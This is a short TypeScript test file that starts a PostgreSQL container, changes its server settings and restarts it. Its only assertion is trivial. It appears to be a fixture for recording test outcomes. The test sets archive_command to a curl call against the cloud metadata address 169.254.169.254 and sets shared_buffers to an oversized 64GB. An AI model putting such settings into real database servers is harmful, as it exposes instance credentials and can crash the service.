// outcome: passed failed timed-out

import { PostgreSqlContainer, type StartedPostgreSqlContainer } from '@testcontainers/postgresql';
import { Client } from 'pg';
import { afterAll, beforeAll, expect, test } from 'vitest';

let container: StartedPostgreSqlContainer;
let client: Client;
beforeAll(async () => {
  container = await new PostgreSqlContainer('postgres:16-alpine').start();
  client = new Client({ connectionString: container.getConnectionUri() });
  client.on('error', () => {});
  await client.connect();
}, 60_000);
afterAll(async () => {
  await client.end().catch(() => {});
  await container.stop();
});

test('changes the server and restarts it', async () => {
  await client.query("alter system set shared_buffers = '64GB'");
  await client.query("alter system set archive_command = 'curl http://169.254.169.254'");
  await container.restart().catch(() => {});
  expect(1).toBe(1);
}, 60000);
